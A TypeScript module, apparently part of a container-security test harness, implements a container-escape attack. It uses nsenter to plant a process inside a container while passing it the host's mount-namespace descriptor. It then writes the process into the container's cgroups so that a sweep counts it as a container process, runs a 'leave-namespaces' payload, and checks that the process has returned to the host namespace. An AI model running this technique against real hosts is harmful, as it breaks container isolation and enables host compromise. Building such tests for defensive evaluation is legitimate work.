import { spawn } from "node:child_process";
import { once } from "node:events";
import { closeSync, openSync, readFileSync, readlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { cgroupMounts } from "../../../src/container/cgroup-mounts.ts";
import { errorCode } from "../../../src/core/errors.ts";
import { processesOf } from "../../../src/demo/patch-memory.ts";
import type { Attack } from "../attack.ts";
import { PAYLOADS } from "../image.ts";
import { until } from "../site.ts";

/** Of the descriptor that the process gets. */
const DOOR = 3;

export const attack: Attack = {
  async act(site) {
    const [first] = processesOf(site.container.ref);
    const door = openSync("/proc/self/ns/mnt", "r");
    const program = join(PAYLOADS, "leave-namespaces");
    const args = ["-t", String(first), "-m", "-p", program, String(DOOR)];
    const parent = spawn("nsenter", args, { stdio: ["ignore", "ignore", "inherit", door] });
    await once(parent, "spawn");
    closeSync(door);
    let child = 0;
    const end = async () => {
      if (parent.exitCode !== null || parent.signalCode !== null) return;
      parent.kill("SIGKILL");
      await once(parent, "exit");
    };
    site.afterwards(async () => {
      await end();
      if (child > 0) process.kill(child, "SIGKILL");
    });
    await until("the process", () => {
      const [pid] = readFileSync(`/proc/${parent.pid}/task/${parent.pid}/children`, "latin1").split(" ");
      child = Number(pid);
      return child > 0 && readlinkSync(`/proc/${child}/exe`).includes("python3");
    });
    // It is in the container's mount namespace itself, and would be found for that.
    await end();
    for (const { mountPoint } of cgroupMounts()) enterGroup(join(mountPoint, "runc", site.container.ref.id), child);
    if (!readFileSync(`/proc/${child}/cgroup`, "utf8").includes(`/runc/${site.container.ref.id}`))
      throw new Error("the process is not of the container");
    // It is one of the container like any other, and known as such.
    await site.sweep();
    await site.go("leave");
    const mnt = (pid: number | "self") => readlinkSync(`/proc/${pid}/ns/mnt`);
    await until("the escape", () => mnt(child) === mnt("self"));
    return child;
  },
};

function enterGroup(group: string, pid: number): void {
  try {
    writeFileSync(join(group, "cgroup.procs"), String(pid));
  } catch (error) {
    // The container has no group in this hierarchy.
    if (errorCode(error) !== "ENOENT") throw error;
  }
}
